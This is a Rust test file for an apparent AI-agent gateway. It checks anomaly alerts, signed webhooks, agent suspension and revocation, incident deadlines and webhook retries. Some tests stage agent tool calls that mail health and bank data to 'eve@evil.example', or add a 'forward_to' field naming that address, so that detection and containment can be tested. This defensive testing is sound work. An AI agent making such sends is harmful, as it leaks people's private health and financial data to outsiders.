//! Alerts: an agent that behaves unlike itself is reported to a webhook,
//! signed, with the evidence, and contained; a webhook that fails never
//! holds decisions up.

use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::body::Bytes;
use axum::http::{HeaderMap, StatusCode};
use hmac::{Hmac, Mac};
use serde_json::{Value, json};
use sha2::Sha256;
use tokio::sync::{Mutex, mpsc};

use crate::harness::{Backend, TestGateway};

/// A webhook receiver on loopback: answers each request with the next
/// status of `statuses` (then 200), after `gate` opens when given.
struct Receiver {
    url: String,
    hits: mpsc::UnboundedReceiver<(HeaderMap, Value, Instant)>,
    gate: Arc<tokio::sync::Semaphore>,
}

async fn receiver(statuses: Vec<u16>, gated: bool) -> Receiver {
    let (tx, hits) = mpsc::unbounded_channel();
    let statuses = Arc::new(Mutex::new(statuses.into_iter()));
    let gate = Arc::new(tokio::sync::Semaphore::new(if gated { 0 } else { 1_000 }));
    let handler_gate = Arc::clone(&gate);
    let app = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |headers: HeaderMap, body: Bytes| {
            let tx = tx.clone();
            let statuses = Arc::clone(&statuses);
            let gate = Arc::clone(&handler_gate);
            async move {
                let _permit = gate.acquire().await;
                let _ = tx.send((
                    headers,
                    serde_json::from_slice(&body).unwrap(),
                    Instant::now(),
                ));
                let status = statuses.lock().await.next().unwrap_or(200);
                StatusCode::from_u16(status).unwrap()
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    Receiver { url, hits, gate }
}

fn rules(url: &str) -> String {
    format!(
        r#"
[[alerts.rules]]
name = "new-class"
when = "new_class"
warm_up = 10
severity = "high"
action = "suspend"

[[alerts.rules]]
name = "new-destination"
when = "new_destination"
warm_up = 10

[[alerts.webhooks]]
name = "soc"
url = "{url}"
secret_file = "webhook.secret"
"#
    )
}

fn mail(to: &str, body: &str) -> Value {
    json!({"server": "mail", "tool": "send", "args": {"to": to, "subject": "case", "body": body}, "session": "case-1"})
}

fn check_signature(headers: &HeaderMap, body: &Value) {
    let sig = headers["x-warden-signature"].to_str().unwrap();
    let (t, v1) = sig.split_once(",v1=").unwrap();
    let t = t.strip_prefix("t=").unwrap();
    let mut mac = Hmac::<Sha256>::new_from_slice(b"s3cret-for-tests").unwrap();
    mac.update(format!("{t}.{}", serde_json::to_string(body).unwrap()).as_bytes());
    assert_eq!(
        v1,
        hex::encode(mac.finalize().into_bytes()),
        "signature over `<t>.<body>`"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_unlike_itself_is_reported_signed_and_suspended_until_resumed() {
    let mut hook = receiver(vec![], false).await;
    let url = hook.url.clone();
    let gw = TestGateway::start(Backend::Sqlite, move |t| t + &rules(&url)).await;
    std::fs::write(gw.config_dir().join("webhook.secret"), "s3cret-for-tests\n").unwrap();
    let bot = gw.token("support-bot");
    // Its usual work: customer contact details to colleagues.
    for n in 0..12 {
        let (_, d) = gw
            .decide(
                &bot,
                mail(
                    "colleague@example.com",
                    &format!("Jane Roe (jane.roe@example.net) called, case {n}"),
                ),
            )
            .await;
        assert_eq!(d["decision"], "allow", "{d}");
    }
    assert!(hook.hits.try_recv().is_err(), "no alert during normal work");

    // Then health and bank data to a host it never wrote to.
    let (_, exfil) = gw
        .decide(
            &bot,
            mail(
                "eve@evil.example",
                "Patient diagnosis ICD-10 E11.9; IBAN DE89370400440532013000",
            ),
        )
        .await;
    let decided = Instant::now();
    let mut alerts = Vec::new();
    while alerts.len() < 2 {
        let (headers, body, at) = tokio::time::timeout(Duration::from_secs(5), hook.hits.recv())
            .await
            .expect("the alerts reach the webhook")
            .unwrap();
        assert!(
            at.duration_since(decided) < Duration::from_secs(1),
            "delivered within 1 s"
        );
        check_signature(&headers, &body);
        alerts.push(body["alert"].clone());
    }
    alerts.sort_by_key(|a| a["rule"].as_str().unwrap().to_owned());
    let class = &alerts[0];
    assert_eq!(class["rule"], "new-class");
    assert_eq!(class["agent"], "support-bot");
    assert_eq!(class["action"], "suspend");
    assert!(
        class["observed"].as_str().unwrap().contains("health"),
        "{class}"
    );
    assert_eq!(class["evidence"][0]["decision_id"], exfil["id"]);
    let host = &alerts[1];
    assert_eq!(host["rule"], "new-destination");
    assert_eq!(host["observed"], "evil.example");
    // The evidence is the record in the log.
    let index = host["evidence"][0]["audit_index"].as_u64().unwrap();
    let (_, entries) = gw
        .admin_get(
            &gw.admin_token,
            &format!("/v1/audit/entries?from={index}&to={}", index + 1),
        )
        .await;
    assert_eq!(
        entries["entries"][0]["record"]["destinations"],
        json!(["evil.example"])
    );

    // Contained: its next action is denied, naming the alert.
    let (_, next) = gw
        .decide(&bot, mail("colleague@example.com", "hello"))
        .await;
    assert_eq!(next["decision"], "deny", "{next}");
    assert!(
        next["reasons"][0]
            .as_str()
            .unwrap()
            .contains("alert `new-class`"),
        "{next}"
    );
    let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
    assert_eq!(listed["alerts"].as_array().unwrap().len(), 2, "{listed}");
    // The high-severity alert opened an incident, on the clocks.
    let mut incidents = Value::Null;
    for _ in 0..100 {
        let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/incidents").await;
        if !listed["incidents"].as_array().unwrap().is_empty() {
            incidents = listed;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let incident = &incidents["incidents"][0];
    assert_eq!(
        incident["incident"]["agents"],
        json!(["support-bot"]),
        "{incidents}"
    );
    assert_eq!(incident["incident"]["status"], "open");
    let detected = incident["incident"]["detected_at"].as_i64().unwrap();
    assert_eq!(detected, class["time_ms"].as_i64().unwrap());
    let due = |regime: &str, stage: &str| {
        incident["clocks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["regime"] == regime && c["stage"] == stage)
            .unwrap()["due_at"]
            .as_i64()
            .unwrap()
            - detected
    };
    const H: i64 = 3_600_000;
    assert_eq!(due("NIS2", "early-warning"), 24 * H);
    assert_eq!(due("NIS2", "notification"), 72 * H);
    assert_eq!(due("DORA", "initial"), 4 * H);
    assert_eq!(due("DORA", "intermediate"), 76 * H);
    assert!(
        incident["incident"]["measures"][0]["what"]
            .as_str()
            .unwrap()
            .contains("suspended"),
        "{incident}"
    );
    // Its report's figures are the audit log's.
    let id = incident["incident"]["id"].as_str().unwrap();
    let (status, report) = gw
        .admin_get(
            &gw.admin_token,
            &format!("/v1/incidents/{id}/report?stage=early-warning&format=json"),
        )
        .await;
    assert_eq!(status, 200, "{report}");
    let record = &entries["entries"][0]["record"];
    let reported = &report["records"][0];
    assert_eq!(reported["audit_index"].as_u64(), Some(index));
    assert_eq!(reported["classes"], record["classes"]);
    assert_eq!(reported["destinations"], record["destinations"]);
    assert_eq!(reported["decision"], record["decision"]);
    assert_eq!(report["decisions"]["deny"], 1);
    assert_eq!(report["destinations"], json!(["evil.example"]));
    let md = gw
        .client
        .get(format!(
            "{}/v1/incidents/{id}/report?stage=early-warning&format=md",
            gw.admin
        ))
        .bearer_auth(&gw.admin_token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        md.contains("NIS2 early-warning: due") && md.contains("evil.example"),
        "{md}"
    );
    // The incident is on record.
    let (_, all) = gw
        .admin_get(&gw.admin_token, "/v1/audit/entries?from=0&to=1000")
        .await;
    assert!(
        all["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["record"]["kind"] == "incident" && e["record"]["decision_id"] == id),
        "an incident record"
    );

    // Resumed, it acts again.
    let (status, _) = gw
        .admin_post(&gw.admin_token, "/v1/agents/support-bot/resume", json!({}))
        .await;
    assert_eq!(status, 200);
    let (_, again) = gw
        .decide(&bot, mail("colleague@example.com", "hello"))
        .await;
    assert_eq!(again["decision"], "allow", "{again}");
    gw.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_webhook_never_holds_decisions_and_alerts_are_retried_or_dead_lettered() {
    // Down (500 twice), then up: delivered on the third attempt. The
    // receiver is held shut while decisions go on.
    let mut hook = receiver(vec![500, 500], true).await;
    let url = hook.url.clone();
    let gw = TestGateway::start(Backend::Sqlite, move |t| {
        t + &format!(
            r#"
[[alerts.rules]]
name = "deny-burst"
when = "denials"
threshold = 3
window_secs = 60

[[alerts.webhooks]]
name = "flaky"
url = "{url}"
format = "slack"
"#
        )
    })
    .await;
    let bot = gw.token("invoice-bot");
    let denied =
        json!({"server": "crm", "tool": "delete_customer", "args": {"id": "c-1"}, "session": "s"});
    for _ in 0..5 {
        assert_eq!(gw.decide(&bot, denied.clone()).await.1["decision"], "deny");
    }
    // The webhook has not answered anything yet, and decisions go on.
    for n in 0..20 {
        let read = json!({"server": "accounting", "tool": "read_invoice", "args": {"invoice_id": format!("INV-{n}")}, "session": "s"});
        assert_eq!(gw.decide(&bot, read).await.1["decision"], "allow");
    }
    hook.gate.add_permits(1_000);
    let mut attempts = Vec::new();
    while attempts.len() < 3 {
        let (headers, body, _) = tokio::time::timeout(Duration::from_secs(10), hook.hits.recv())
            .await
            .expect("retried")
            .unwrap();
        assert!(
            headers.get("x-warden-signature").is_none(),
            "no secret: unsigned"
        );
        attempts.push(body);
    }
    assert!(
        attempts[2]["text"].as_str().unwrap().contains("deny-burst"),
        "{}",
        attempts[2]
    );
    let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
    assert!(
        listed["dead_letters"].as_array().unwrap().is_empty(),
        "{listed}"
    );
    gw.stop().await;

    // A webhook that refuses (400): no retry, a dead letter.
    let hook = receiver(vec![400], false).await;
    let url = hook.url.clone();
    let gw = TestGateway::start(Backend::Sqlite, move |t| {
        t + &format!(
            "[[alerts.rules]]\nname = \"deny-burst\"\nwhen = \"denials\"\nthreshold = 1\n\n[[alerts.webhooks]]\nname = \"refuses\"\nurl = \"{url}\"\nformat = \"teams\"\n"
        )
    })
    .await;
    let bot = gw.token("invoice-bot");
    for _ in 0..3 {
        gw.decide(&bot, denied.clone()).await;
    }
    let mut dead = Value::Null;
    for _ in 0..100 {
        let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
        if !listed["dead_letters"].as_array().unwrap().is_empty() {
            dead = listed["dead_letters"][0].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(dead["webhook"], "refuses", "{dead}");
    assert_eq!(dead["error"], "answered 400 Bad Request");
    assert_eq!(dead["alert"]["rule"], "deny-burst");
    gw.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_new_argument_shape_revokes_the_instance_that_sent_it() {
    let mut hook = receiver(vec![], false).await;
    let url = hook.url.clone();
    let gw = TestGateway::start(Backend::Sqlite, move |t| {
        t + &format!(
            r#"
[[alerts.rules]]
name = "odd-arguments"
when = "argument_shape"
per = "instance"
warm_up = 8
severity = "high"
action = "revoke"

[[alerts.webhooks]]
name = "soc"
url = "{url}"
"#
        )
    })
    .await;
    let now = std::time::SystemTime::now();
    let ttl = Duration::from_secs(900);
    let (one, two) = (
        gw.token_at("invoice-bot", "i-1", now, ttl),
        gw.token_at("invoice-bot", "i-2", now, ttl),
    );
    let read = |args: Value| json!({"server": "accounting", "tool": "read_invoice", "args": args, "session": "s"});
    // Its usual calls, from both instances.
    for n in 0..10 {
        for token in [&one, &two] {
            let (_, d) = gw
                .decide(token, read(json!({"invoice_id": format!("INV-{n}")})))
                .await;
            assert_eq!(d["decision"], "allow", "{d}");
        }
    }
    assert!(hook.hits.try_recv().is_err(), "no alert during normal work");
    // Then i-2 reads with a field it never used, holding an email address.
    let (_, odd) = gw
        .decide(
            &two,
            read(json!({"invoice_id": "INV-1", "forward_to": "eve@evil.example"})),
        )
        .await;
    let decided = Instant::now();
    let (_, body, at) = tokio::time::timeout(Duration::from_secs(5), hook.hits.recv())
        .await
        .expect("the alert reaches the webhook")
        .unwrap();
    assert!(
        at.duration_since(decided) < Duration::from_secs(1),
        "within 1 s"
    );
    let alert = &body["alert"];
    assert_eq!(alert["rule"], "odd-arguments");
    assert_eq!(alert["kind"], "argument_shape");
    assert_eq!(
        (alert["per"].as_str(), alert["instance"].as_str()),
        (Some("instance"), Some("i-2"))
    );
    assert_eq!(
        alert["observed"],
        "accounting/read_invoice called with forward_to:string, forward_to:string:pii.contact"
    );
    assert_eq!(alert["baseline"], "1 shape entries seen over 10 calls");
    assert_eq!(alert["evidence"][0]["decision_id"], odd["id"]);
    // The record holds the shape, never the values.
    let index = alert["evidence"][0]["audit_index"].as_u64().unwrap();
    let (_, entries) = gw
        .admin_get(
            &gw.admin_token,
            &format!("/v1/audit/entries?from={index}&to={}", index + 1),
        )
        .await;
    let record = &entries["entries"][0]["record"];
    assert_eq!(
        record["args_shape"],
        json!([
            "forward_to:string",
            "forward_to:string:pii.contact",
            "invoice_id:string"
        ])
    );
    assert!(!record.to_string().contains("evil.example"), "{record}");

    // Revoked: i-2 is refused; its sibling i-1 goes on.
    let mut refused = 0;
    for _ in 0..100 {
        refused = gw
            .decide(&two, read(json!({"invoice_id": "INV-2"})))
            .await
            .0;
        if refused == 401 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(refused, 401, "the instance is revoked");
    let (_, sibling) = gw.decide(&one, read(json!({"invoice_id": "INV-2"}))).await;
    assert_eq!(sibling["decision"], "allow", "{sibling}");
    let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/revocations").await;
    let revocation = &listed["revocations"][0];
    assert_eq!(revocation["instance"], "i-2", "{listed}");
    assert_eq!(revocation["revoked_by"], "alert rule `odd-arguments`");
    assert!(
        revocation["reason"]
            .as_str()
            .unwrap()
            .starts_with("alert `odd-arguments` (odd-arguments-invoice-bot-i-2-"),
        "{revocation}"
    );
    gw.stop().await;
}
